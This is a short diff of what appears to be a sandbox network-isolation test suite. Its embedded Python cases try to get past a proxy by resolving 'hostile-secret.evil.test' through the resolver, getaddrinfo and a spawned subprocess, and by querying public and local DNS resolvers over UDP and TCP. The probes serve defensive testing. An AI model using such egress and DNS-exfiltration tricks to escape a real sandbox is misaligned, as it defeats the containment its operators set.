@@ -40,7 +40,7 @@ const unasked = (hostileCase: HostileCase): HostileCase => ({
 
 /** Connects past the proxy, in every way that Python has. */
 const PAST_THE_PROXY = `${HTTP}
-import fcntl, struct, subprocess
+import fcntl, struct, subprocess, sys
 SOCKETS = json.loads(settings.get('SOCKETS'))
 ADDRESS, UDP = settings.get('ADDRESS'), int(settings.get('UDP_PORT'))
 def udp(address):
@@ -179,7 +179,8 @@ set_result([reached, os.path.exists(os.path.dirname(SOCKETS[0]))])`,
   past("names and datagrams past the proxy", {
     getaddrinfo: "socket.getaddrinfo('hostile-secret.evil.test', 80)",
     gethostbyname: "socket.gethostbyname_ex('hostile-secret.evil.test')",
-    program: "if subprocess.call(['getent', 'hosts', 'hostile-secret.evil.test']): raise OSError",
+    program:
+      "if subprocess.call([sys.executable, '-c', 'import socket; socket.getaddrinfo(\"hostile-secret.evil.test\", 1)']): raise OSError",
     "a public resolver": "udp(('8.8.8.8', 53))",
     "the machine's resolver": "udp(('127.0.0.53', 53))",
     "a resolver by TCP": "tcp('8.8.8.8', 53)",
